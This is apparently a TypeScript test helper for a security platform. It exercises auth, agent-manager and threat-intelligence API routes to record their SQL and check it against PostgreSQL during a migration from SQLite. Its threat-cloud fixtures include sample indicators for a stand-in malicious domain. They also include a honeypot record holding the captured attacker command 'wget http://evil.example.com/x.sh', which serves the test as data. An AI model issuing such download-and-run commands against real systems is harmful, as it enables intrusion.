import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { InjectOptions } from 'fastify';
import type pg from 'pg';
import type { Db } from '../src/shared/db/open.js';
import { toNumberedParameters, withoutPlannerHints } from '../src/shared/db/sql-params.js';
import { declaredPostgresText } from '../src/shared/db/storage.js';
import { codeAt } from '../src/auth/services/totp-crypto.js';
import { buildAuth, enableTotp, login, register, registerAdmin, PASSWORD } from './auth/fixtures.js';
import { testConfig, testDb, type Teardown } from './helper.js';
import { recordSql, type RecordedSql } from './query-plans.js';
import { buildManager, event, OPERATOR, register as registerAgent } from './manager/fixtures.js';
import { ADMIN, buildThreatCloud, threat } from './threat-cloud/fixtures.js';

/** A request the drive expects to succeed; what it answered otherwise, so a shrinking drive is seen. */
export interface Drive {
  failures: string[];
}

type Injector = (options: InjectOptions & { key?: string | null }) => Promise<{ statusCode: number; body: string; json(): any }>;

async function expectOk(drive: Drive, app: { inject: Injector }, options: InjectOptions & { key?: string | null }) {
  const res = await app.inject(options);
  if (res.statusCode >= 300) drive.failures.push(`${options.method ?? 'GET'} ${String(options.url)} → ${res.statusCode} ${res.body.slice(0, 200)}`);
  return res;
}

/** Every account route, the admin routes and the maintenance job, on one Auth app. */
async function driveAuth(t: Teardown, db: Db, drive: Drive): Promise<void> {
  const auth = await buildAuth(t, { db });
  const { app } = auth;
  const ok = (options: InjectOptions) => expectOk(drive, { inject: (o) => app.inject(o) }, options);
  const admin = await registerAdmin(app, 'admin@example.com');
  const user = await register(app, { email: 'user@example.com', name: 'Ursula User' });
  const loggedIn = await login(app, user.email);
  if (loggedIn.statusCode !== 200) drive.failures.push(`login → ${loggedIn.statusCode}`);
  await login(app, user.email, 'a wrong password');
  const h = user.headers;
  await ok({ url: '/api/auth/me', headers: h });
  await ok({ url: '/api/auth/sessions', headers: h });
  await ok({ url: '/api/auth/export-data', headers: h });
  await ok({ url: '/api/auth/totp/status', headers: h });
  const { secret } = await enableTotp(auth, user);
  const codes = await ok({ method: 'POST', url: '/api/auth/totp/backup-codes', headers: h, payload: { totpCode: codeAt(secret, auth.clock.now()) } });
  const backupCode = (codes.json().data?.backupCodes as string[] | undefined)?.[0];
  await ok({ method: 'POST', url: '/api/auth/login', remoteAddress: '198.51.100.7', payload: { email: user.email, password: PASSWORD, backupCode } });
  auth.clock.advance(30_000);
  await ok({ method: 'POST', url: '/api/auth/totp/disable', headers: h, payload: { password: PASSWORD, totpCode: codeAt(secret, auth.clock.now()) } });
  await ok({ method: 'POST', url: '/api/auth/api-keys', headers: h, payload: { name: 'feed reader' } });
  const keys = await ok({ url: '/api/auth/api-keys', headers: h });
  const keyId = (keys.json().data as Array<{ id: string }>)[0]?.id;
  if (keyId) await ok({ method: 'DELETE', url: `/api/auth/api-keys/${keyId}`, headers: h });
  const token = await ok({ method: 'POST', url: '/api/auth/enroll-tokens', headers: h, payload: { name: 'fleet' } });
  await ok({ url: '/api/auth/enroll-tokens', headers: h });
  const tokenId = token.json().data?.id as string | undefined;
  if (tokenId) await ok({ method: 'DELETE', url: `/api/auth/enroll-tokens/${tokenId}`, headers: h });
  await ok({ url: '/api/usage', headers: h });
  await ok({ url: '/api/usage/limits', headers: h });
  await ok({ method: 'POST', url: '/api/usage/check', headers: h, payload: { resource: 'api_calls' } });
  await ok({ url: '/api/billing/status', headers: h });
  await ok({ method: 'POST', url: '/api/auth/forgot-password', payload: { email: user.email } });
  await ok({ method: 'POST', url: '/api/auth/change-password', headers: h, payload: { currentPassword: PASSWORD, newPassword: 'another uncommon choice' } });

  const a = admin.headers;
  for (const query of ['', '?q=urs', '?q=urs&role=user&tier=community', '?role=admin', '?tier=pro', '?q=ursula%20u']) {
    await ok({ url: `/api/admin/users${query}`, headers: a });
  }
  await ok({ url: `/api/admin/users/${user.id}`, headers: a });
  await ok({ method: 'PATCH', url: `/api/admin/users/${user.id}`, headers: a, payload: { tier: 'pro' } });
  await ok({ method: 'PATCH', url: `/api/admin/users/${user.id}`, headers: a, payload: { suspended: true } });
  await ok({ method: 'PATCH', url: `/api/admin/users/${user.id}`, headers: a, payload: { suspended: false } });
  const sessions = await ok({ url: '/api/admin/sessions', headers: a });
  for (const query of ['', '?action=login', `?actorId=${user.id}`, '?since=2026-01-01T00:00:00.000Z&until=2027-01-01T00:00:00.000Z']) {
    await ok({ url: `/api/admin/audit-log${query}`, headers: a });
  }
  await ok({ url: '/api/admin/stats', headers: a });
  const sessionId = (sessions.json().data as Array<{ id: string }>)[0]?.id;
  if (sessionId) await ok({ method: 'DELETE', url: `/api/admin/sessions/${sessionId}`, headers: a });

  const other = await register(app, { email: 'other@example.com' });
  await ok({ method: 'POST', url: '/api/auth/logout', headers: other.headers });
  const again = await login(app, other.email);
  const otherHeaders = { authorization: `Bearer ${again.json().data?.token as string}` };
  await ok({ method: 'POST', url: '/api/auth/logout-all', headers: otherHeaders });
  const third = await register(app, { email: 'third@example.com' });
  await ok({ method: 'DELETE', url: '/api/auth/delete-account', headers: third.headers, payload: { password: PASSWORD } });

  auth.clock.advance(40 * 86_400_000);
  await auth.jobs.maintenance.run();
  await auth.jobs.maintenance.runInSlices();
}

/** Agents, heartbeats, events, policies, the overview and threat queries, and the sweeper, on one Manager app. */
async function driveManager(t: Teardown, db: Db, drive: Drive): Promise<void> {
  const manager = await buildManager(t as Parameters<typeof buildManager>[0], { db });
  const { app } = manager;
  const ok = (options: InjectOptions) => expectOk(drive, { inject: (o) => app.inject(o) }, options);
  await registerAgent(app, { hostname: 'web-01', tags: ['prod'] });
  // The same hostname again: the upsert path, which issues the token used from here on.
  const agent = await registerAgent(app, { hostname: 'web-01', tags: ['prod', 'web'] });
  const second = await registerAgent(app, { hostname: 'db-02', os: 'windows' });
  await ok({ method: 'POST', url: `/api/agents/${agent.id}/heartbeat`, headers: agent.headers, payload: { cpu: 33, policyVersion: 'v1' } });
  await ok({ method: 'POST', url: `/api/agents/${agent.id}/events`, headers: agent.headers, payload: { events: [event(), event({ severity: 'critical', type: 'port_scan' })] } });
  await ok({ method: 'POST', url: `/api/agents/${second.id}/events`, headers: OPERATOR, payload: { events: [event({ details: { sourceIp: '198.51.100.9' } })] } });
  for (const query of ['', '?status=online', '?status=offline', '?org_id=default', '?tag=prod', '?tag=prod&tag=web', '?q=WEB', '?org_id=default&q=web', '?sort=hostname&order=asc', '?sort=lastHeartbeat', '?page=2&limit=1']) {
    await ok({ url: `/api/agents${query}`, headers: OPERATOR });
  }
  await ok({ url: `/api/agents/${agent.id}`, headers: OPERATOR });
  await ok({ url: '/api/overview', headers: OPERATOR });
  for (const query of ['', '?severity=high', '?type=brute_force', `?agent_id=${agent.id}`, '?org_id=default', '?since=2026-01-01T00:00:00.000Z&until=2027-01-01T00:00:00.000Z', '?page=2&limit=1']) {
    await ok({ url: `/api/threats${query}`, headers: OPERATOR });
  }
  for (const period of ['1h', '24h', '7d', '30d']) {
    await ok({ url: `/api/threats/summary?period=${period}`, headers: OPERATOR });
    await ok({ url: `/api/threats/summary?period=${period}&org_id=default`, headers: OPERATOR });
    await ok({ url: `/api/threats/timeseries?period=${period}`, headers: OPERATOR });
  }
  await ok({ method: 'POST', url: '/api/policy', headers: OPERATOR, payload: { name: 'g', rules: [{ type: 'custom', config: { condition: 'c', action: 'a' } }] } });
  await ok({ url: '/api/policy/active', headers: OPERATOR });
  await ok({ url: '/api/policy/history', headers: OPERATOR });
  await ok({ method: 'PUT', url: `/api/policy/agent/${agent.id}`, headers: OPERATOR, payload: { rules: [{ type: 'custom', config: { condition: 'o', action: 'a' } }] } });
  await ok({ url: `/api/policy/agent/${agent.id}`, headers: agent.headers });
  await ok({ method: 'DELETE', url: `/api/policy/agent/${agent.id}`, headers: OPERATOR });
  manager.clock.advance(10 * 60_000);
  await manager.jobs.sweeper.sweep();
  await manager.jobs.sweeper.sweepInSlices();
  manager.clock.advance(40 * 86_400_000);
  await manager.jobs.sweeper.sweep();
  await ok({ method: 'DELETE', url: `/api/agents/${second.id}`, headers: OPERATOR });
}

/** IoC upload, lookup, lists, feeds, sightings, rules, trap intel, campaigns, analytics, audit and keys, and the jobs, on one Threat Cloud app. */
async function driveThreatCloud(t: Teardown, db: Db, drive: Drive): Promise<void> {
  const tc = await buildThreatCloud(t, { db });
  const ok = (options: InjectOptions & { key?: string | null }) => expectOk(drive, tc, options);
  const threats = [
    threat('198.51.100.1', { category: 'bruteforce' }),
    threat('198.51.100.2', { category: 'bruteforce' }),
    threat('198.51.100.3', { category: 'bruteforce' }),
    { type: 'domain', value: 'evil.example.com', source: 'test-sensor', category: 'c2' },
    { type: 'url', value: 'http://evil.example.com/x.sh', source: 'test-sensor' },
    { type: 'hash', value: 'a'.repeat(64), source: 'test-sensor', metadata: { mitreIds: ['T1110'] } },
  ];
  await ok({ method: 'POST', url: '/api/threats', payload: { threats } });
  await ok({ method: 'POST', url: '/api/threats', payload: { threats: [threat('198.51.100.1', { source: 'other-sensor' })] } });
  await ok({ method: 'POST', url: '/api/sightings', payload: { value: '198.51.100.1', source: 'fw-1' } });
  await ok({ url: '/api/sightings?value=198.51.100.1' });
  await ok({
    method: 'POST',
    url: '/api/trap-intel',
    payload: {
      trapId: 'trap-1',
      attackerIp: '203.0.113.7',
      honeypotType: 'ssh',
      interactions: [{ timestamp: '2026-03-07T11:59:00.000Z', action: 'command', data: { command: 'wget http://evil.example.com/x.sh' } }],
      credentials: [{ username: 'root', password: 'x' }],
    },
  });
  await tc.jobs.correlation.runBatch();
  for (const query of ['', '?type=ip', '?source=test-sensor', '?category=bruteforce', '?status=active', '?minReputation=10&maxReputation=90', '?since=2026-01-01T00:00:00.000Z', '?q=198.51', '?type=ip&status=active&minReputation=10', '?page=2&limit=1']) {
    await ok({ url: `/api/iocs${query}` });
  }
  await ok({ url: '/api/iocs/198.51.100.1' });
  await tc.inject({ url: '/api/iocs/198.51.100.200' });
  await ok({ method: 'PUT', url: '/api/iocs/198.51.100.2/status', payload: { status: 'revoked', reason: 'test' } });
  for (const feed of ['ip-blocklist', 'domain-blocklist', 'stix', 'agent-update', 'iocs?since=2026-01-01T00:00:00.000Z&type=ip&maxReputation=90', 'ip-blocklist?minReputation=50&category=bruteforce']) {
    await ok({ url: `/api/feeds/${feed}` });
  }
  const firstPage = await ok({ url: '/api/feeds/iocs?limit=2' });
  const cursor = firstPage.json().data?.nextCursor as string | undefined;
  await ok({ url: `/api/feeds/iocs?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}` });
  await ok({ url: '/api/stats' });
  await ok({ method: 'POST', url: '/api/rules', payload: { id: 'r1', name: 'Rule one', content: 'title: one' } });
  await ok({ method: 'POST', url: '/api/rules', payload: { id: 'r1', name: 'Rule one', content: 'title: one, changed' } });
  await ok({ method: 'DELETE', url: '/api/rules/r1' });
  await ok({ url: '/api/campaigns' });
  await ok({ url: '/api/campaigns/stats' });
  const campaigns = await tc.inject({ url: '/api/campaigns' });
  const campaignId = (campaigns.json().data as Array<{ id: string }> | undefined)?.[0]?.id;
  if (campaignId) await ok({ url: `/api/campaigns/${campaignId}` });
  for (const query of ['timeseries', 'geo', 'trends', 'mitre-heatmap', 'timeseries?period=7d', 'timeseries?granularity=hour&period=24h', 'trends?period=30d']) {
    await ok({ url: `/api/query/${query}` });
  }
  const key = await ok({ method: 'POST', url: '/api/admin/keys', headers: ADMIN, key: null, payload: { name: 'siem', tier: 'pro', scopes: ['read'] } });
  await ok({ url: '/api/admin/keys', headers: ADMIN, key: null });
  const keyId = key.json().data?.id as string | undefined;
  if (keyId) await ok({ method: 'DELETE', url: `/api/admin/keys/${keyId}`, headers: ADMIN, key: null });
  for (const query of ['', '?action=create', '?action=query&since=2026-01-01T00:00:00.000Z']) await ok({ url: `/api/audit-log${query}` });
  tc.clock.advance(120 * 86_400_000);
  await tc.jobs.refresh.run();
  await tc.jobs.auditRetention.purge();
  await tc.jobs.correlation.runBatch();
}

/**
 * The SQL the three apps prepare while serving the main routes and running their jobs once,
 * on one database as the process shares it (the bridges and shared stores included).
 */
export async function collectRuntimeSql(t: Teardown): Promise<RecordedSql & Drive> {
  const db = testDb(t, testConfig(t));
  const { db: recording, prepared, executed } = recordSql(db);
  const drive: Drive = { failures: [] };
  // The jobs' slices pause on unref'd timers: without a ref'd one the process would exit mid-drive.
  const keepAlive = setInterval(() => {}, 1000);
  try {
    await driveAuth(t, recording, drive);
    await driveManager(t, recording, drive);
    await driveThreatCloud(t, recording, drive);
  } finally {
    clearInterval(keepAlive);
  }
  // The agent store's temp triggers carry a random per-store suffix; the text is kept without it.
  const stable = [...executed].map((source) => source.replace(/(panguard_\w+?_)[0-9a-f]{12}(?![0-9a-f])/g, '$1<random>'));
  return { prepared, executed: new Set(stable), ...drive };
}

/** One statement's text as the inventory knows it: whitespace collapsed, no trailing semicolon. */
export function normaliseSql(sql: string): string {
  return sql.replace(/\s+/g, ' ').trim().replace(/;$/, '').trim();
}

/** The inventory's stable name of a statement: the first 16 hex digits of its normalised text's SHA-256. */
export function statementKey(sql: string): string {
  return createHash('sha256').update(normaliseSql(sql)).digest('hex').slice(0, 16);
}

/** Why a recorded statement is left out of the inventory (it has no PostgreSQL counterpart to check), or null. */
export function skipReason(sql: string): string | null {
  const text = normaliseSql(sql);
  if (/^PRAGMA\b/i.test(text)) return 'PRAGMA';
  if (/\bsqlite_(master|schema|sequence|stat\d)\b/i.test(text)) return 'SQLite catalogue';
  if (/^EXPLAIN\b/i.test(text)) return 'EXPLAIN';
  // The SQLite adapter's own transaction control; the PostgreSQL adapter sends its own.
  if (/^(BEGIN|COMMIT|ROLLBACK|SAVEPOINT|RELEASE)\b/i.test(text)) return 'transaction control of the SQLite adapter';
  // The Manager's token cache lives on its SQLite connection; on PostgreSQL every request
  // reads the token's agent, so a revocation holds across replicas without a cache to clear.
  if (/^CREATE TEMP TRIGGER\b/i.test(text)) return 'connection-local cache trigger (SQLite only)';
  return null;
}

/** Statements PostgreSQL's PREPARE takes; anything else is run inside a transaction that is rolled back. */
const PREPARABLE = /^(SELECT|INSERT|UPDATE|DELETE|VALUES|WITH)\b/i;

/**
 * What PostgreSQL says of one statement, as the adapter would send it (its declared PostgreSQL
 * text if it has one, else the SQLite text without planner hints), parameters rewritten:
 * null when it parses and analyses (PREPARE: no execution), else its error message.
 */
export async function postgresRefusal(client: pg.ClientBase, sql: string): Promise<string | null> {
  let text: string;
  try {
    text = toNumberedParameters(declaredPostgresText(sql) ?? withoutPlannerHints(sql)).text.trim().replace(/;$/, '');
  } catch (error) {
    return `parameter rewrite: ${(error as Error).message}`;
  }
  if (PREPARABLE.test(text)) {
    try {
      await client.query(`PREPARE dialect_probe AS ${text}`);
      await client.query('DEALLOCATE dialect_probe');
      return null;
    } catch (error) {
      return (error as Error).message;
    }
  }
  await client.query('BEGIN');
  try {
    await client.query(text);
    return null;
  } catch (error) {
    return (error as Error).message;
  } finally {
    await client.query('ROLLBACK');
  }
}


const KINDS: ReadonlyArray<readonly [kind: string, message: RegExp, sql?: RegExp]> = [
  ['INDEXED BY', /syntax error at or near "(BY|INDEXED)"/, /\b(INDEXED\s+BY|NOT\s+INDEXED)\b/i],
  ['unary + index hint', /operator does not exist: \+ /],
  [':name parameter', /syntax error at or near ":"/, /(?<![:\w]):[A-Za-z_]/],
  ['CROSS JOIN … ON (join-order hint)', /syntax error at or near "ON"/, /\bCROSS\s+JOIN\b/i],
  ['INSERT OR IGNORE/REPLACE', /syntax error at or near "OR"/, /\bINSERT\s+OR\s+(IGNORE|REPLACE)\b/i],
  ['json_extract/json_each', /\bjson|text = json/i],
  ['strftime/julianday/date', /function (strftime|julianday|unixepoch|date|datetime|time)\(/],
  ['scalar min/max', /function (min|max)\([^)]*,/],
  ['IFNULL/printf/instr/substr', /function (ifnull|printf|instr|iif|hex|char|unicode|substr)\(/],
  ['group_concat', /group_concat/],
  ['untyped parameter', /could not determine data type of parameter|operator is not unique: unknown/],
  ['upsert: unqualified column', /column reference "\w+" is ambiguous/, /\bON CONFLICT\b/i],
  ['subquery without alias', /subquery in FROM must have an alias/],
  ['boolean vs integer', /boolean|argument of \w+ must be type boolean/],
  ['rowid', /"rowid"/],
  ['LIMIT -1', /LIMIT must not be negative/],
  ['COLLATE NOCASE', /collation "nocase"/],
  ['temp trigger', /syntax error at or near "TRIGGER"/],
  ['parameter rewrite', /^parameter rewrite:/],
  ['type mismatch', /operator does not exist|cannot be matched|is of type/],
];

/** A short name for why PostgreSQL refused a statement: what the conversion must change. */
export function gapKind(sql: string, message: string): string {
  for (const [kind, pattern, inSql] of KINDS) {
    if (pattern.test(message) && (!inSql || inSql.test(sql))) return kind;
  }
  return 'other';
}

/** Every source file under src/, whitespace collapsed, to find where a statement is written. */
function sourceTexts(root: string): Array<{ file: string; text: string }> {
  const files: Array<{ file: string; text: string }> = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true }).sort((a, b) => a.name.localeCompare(b.name))) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else if (entry.name.endsWith('.ts')) files.push({ file: path.relative(path.dirname(root), full), text: normaliseSql(readFileSync(full, 'utf8')) });
    }
  };
  walk(root);
  return files;
}

/**
 * The file that writes a statement: statements are assembled from template pieces, so no file
 * holds the whole text; the one holding the most of its words and runs of three and five
 * words wins, each weighted by how rare it is (what many files hold says little).
 */
export function createSourceFinder(root = path.join(import.meta.dirname, '..', 'src')): (sql: string) => string | null {
  const sources = sourceTexts(root);
  return (sql) => {
    const words = normaliseSql(sql).split(' ');
    const runs = new Set<string>();
    for (const size of [1, 3, 5]) {
      for (let i = 0; i + size <= words.length; i++) runs.add(words.slice(i, i + size).join(' '));
    }
    const scores = new Map<string, number>();
    for (const run of runs) {
      const holders = sources.filter(({ text }) => text.includes(run));
      for (const { file } of holders) scores.set(file, (scores.get(file) ?? 0) + 1 / holders.length);
    }
    let best: string | null = null;
    for (const [file, score] of scores) if (best === null || score > scores.get(best)!) best = file;
    return best;
  };
}

/**
 * SQLite JSON functions whose PostgreSQL namesakes take other arguments or answer otherwise
 * (json_each over an array is an error there, json_insert and json_extract do not exist, and
 * PREPARE with an untyped parameter does not always notice): a statement using one needs its
 * own PostgreSQL text, proved equal on both engines.
 */
export function sqliteJsonFunctions(sql: string): string[] {
  const text = normaliseSql(sql).replace(/'[^']*'/g, "''");
  return [...new Set([...text.matchAll(/\b(json_each|json_tree|json_insert|json_set|json_replace|json_remove|json_extract|json_group_array|json_group_object|json_patch|json_valid)\s*\(/gi)].map((m) => m[1]!.toLowerCase()))];
}

/**
 * Output names PostgreSQL would fold to lower case (`AS newIocs` comes back as `newiocs`, and
 * the row's `newIocs` is undefined): mixed-case aliases not in double quotes.
 */
export function foldedAliases(sql: string): string[] {
  const text = normaliseSql(sql).replace(/'[^']*'/g, "''").replace(/"[^"]*"/g, '""');
  return [...new Set([...text.matchAll(/\bAS\s+([a-z_]\w*[A-Z]\w*)\b/g)].map((m) => m[1]!))];
}

/**
 * Statements PostgreSQL accepts that may answer differently from SQLite, by pattern: each
 * needs a look (and a test on both engines) during the conversion, not a rewrite by rule.
 */
export function behaviourRisks(sql: string, rowidTables: readonly string[]): string[] {
  const text = normaliseSql(sql);
  const risks: string[] = [];
  if (/\bLIKE\b/i.test(text) && !/\bGLOB\b/i.test(text)) risks.push('LIKE: case-sensitive on PostgreSQL (ILIKE or ascii_lower() both sides)');
  if (/[\w)]\s*\/\s*[\w(@?]/.test(text.replace(/'[^']*'/g, "''"))) risks.push('division: integer / integer truncates on both engines, but PostgreSQL types a parameter after the other operand (bigint), refusing a fractional value SQLite would divide');
  if (/\bround\(/i.test(text)) risks.push('round(): PostgreSQL rounds a double half to even, SQLite half away from zero');
  if (/\b(avg|sum|total)\(/i.test(text)) risks.push('sum()/avg(): numeric (exact) on PostgreSQL, integer/double on SQLite; NULL for no rows on both');
  if (/\bORDER BY\b/i.test(text)) {
    const nullable = /ORDER BY[^)]*\b(last_heartbeat\w*|plan_expires_at|last_login_at|category|country|removed_at|ends_at|renews_at|last_used\w*)\b/i.exec(text);
    if (nullable) risks.push(`ORDER BY ${nullable[1]}: NULLs sort first ascending on SQLite, last on PostgreSQL`);
  }
  const star = /\bSELECT\s+(?:DISTINCT\s+)?(?:\w+\.)?\*\s*,?.*?\bFROM\s+(\w+)/i.exec(text);
  if (star && rowidTables.includes(star[1]!)) risks.push(`SELECT * FROM ${star[1]}: also returns the rowid identity column on PostgreSQL`);
  if (/\b(substr|length|upper|lower)\(/i.test(text)) risks.push('substr()/length()/upper()/lower(): characters on both, but lower()/upper() fold non-ASCII letters on PostgreSQL only');
  if (/\bmax\([^()]*,|\bmin\([^()]*,/i.test(text)) risks.push('scalar min()/max() with several arguments: greatest()/least() ignore NULLs on PostgreSQL, SQLite returns NULL');
  if (/\bGROUP BY\b/i.test(text) && /\bSELECT\b(?:(?!\bFROM\b).)*\b(\w+)\.\*/i.test(text)) risks.push('GROUP BY with t.*: PostgreSQL requires every selected column grouped (or the key)');
  return risks;
}
